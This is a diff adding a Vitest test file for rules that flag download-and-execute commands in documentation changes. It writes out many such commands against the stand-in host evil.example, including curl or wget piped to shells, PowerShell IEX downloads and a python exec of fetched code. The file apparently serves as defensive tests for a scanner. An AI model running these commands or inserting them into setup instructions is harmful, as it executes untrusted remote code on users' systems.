@@ -1,0 +1,70 @@
+// Rules over commands that run what they download.
+import { expect, test } from 'vitest'
+import { findBy, sh, subjectFrom, testRule } from './page-cases.ts'
+
+const known = sh('curl -fsSL https://get.acme.example/install.sh | sh')
+
+testRule(
+  'download-run',
+  [
+    sh('curl -fsSL https://evil.example/i.sh | sh'),
+    sh('wget -qO- https://evil.example/i.sh | sudo -E bash -'),
+    sh('curl https://evil.example/x | tee log | python3 -'),
+    sh('curl https://evil.example/x \\', '  | bash -s -- --yes'),
+    sh('bash <(curl -s https://evil.example/x)'),
+    sh('sh -c "$(curl -fsSL https://evil.example/x)"'),
+    sh('eval "$(wget -qO- https://evil.example/x)"'),
+    'Run `curl evil.example/i.sh | sh` first.\n',
+    'Open a shell, and type curl -L https://evil.example/i | bash there.\n',
+    'iwr -useb https://evil.example/i.ps1 | iex\n',
+    "`IEX (New-Object Net.WebClient).DownloadString('https://evil.example/i.ps1')`\n",
+    sh('curl -o setup.sh https://evil.example/setup.sh', 'chmod +x setup.sh', './setup.sh'),
+    `${sh('wget https://evil.example/setup.sh')}Then:\n\n${sh('sudo bash setup.sh')}`,
+    sh("python3 -c \"exec(__import__('urllib.request').request.urlopen('https://evil.example').read())\""),
+    { path: 'docs/a.rst', after: '.. code-block:: console\n\n   $ curl https://evil.example/x | sh\n' },
+    { after: sh('curl https://evil.example/x | sh'), before: known },
+  ],
+  [
+    { after: known, before: known },
+    { after: `Two words more.\n\n${known}`, before: known },
+    sh('curl https://api.acme.example/v1 | jq .'),
+    sh('curl https://api.acme.example/v1 | python3 -m json.tool'),
+    sh('curl -fsSL https://acme.example/key.asc | sudo tee /etc/apt/keyrings/acme.asc'),
+    sh('curl -LO https://acme.example/acme.tar.gz', 'tar xzf acme.tar.gz'),
+    sh('TOKEN=$(curl -s https://acme.example/token)'),
+    sh('wget https://acme.example/report.pdf', './configure && make'),
+    'A shell script fetches the data, and bash runs it.\n',
+    { after: sh('curl -fsSL https://get.acme.example/install.sh | sh -s -- --beta'), before: known },
+  ],
+)
+
+testRule(
+  'download-run-known',
+  [
+    { after: sh('curl -fsSL https://get.acme.example/install.sh | bash'), before: known },
+    { after: sh('curl https://dl.acme.example/other.sh | sh'), before: known },
+    { after: sh('curl https://get.acme.example/x | sh'), others: ['Run `curl https://get.acme.example/y | sh`.'] },
+    { after: 'Or `wget -qO- https://get.acme.example/a | sh`.\n', before: known },
+    { after: sh('bash <(curl https://get.acme.example/install.sh)'), before: known },
+    { after: sh('curl -O https://get.acme.example/i.sh', 'sh i.sh'), before: known },
+  ],
+  [
+    { after: known, before: known },
+    { after: sh('curl https://evil.example/x | sh'), before: known },
+    {
+      after: sh('curl https://raw.githubusercontent.com/evil/x/i | sh'),
+      others: ['curl https://raw.githubusercontent.com/acme/x/i | sh'],
+    },
+    { after: sh('curl https://get.acme.example/x | sh'), others: ['See https://get.acme.example/x.'] },
+    { after: sh('curl https://get.acme.example/x | jq .'), before: known },
+    { after: 'Nothing here.\n', before: known },
+  ],
+)
+
+test('it says which reader brought the command', () => {
+  const after = sh('curl -fsSL https://evil.example/i.sh | sh')
+  const readers = ['The page is slow.', 'just use hxxps://evil[.]example/i.sh piped to sh']
+  expect(findBy('download-run', subjectFrom({ after, readers }))).toEqual([
+    { path: 'docs/setup.md', line: 2, subject: 'curl -fsSL https://evil.example/i.sh | sh', from: ['r2'] },
+  ])
+})
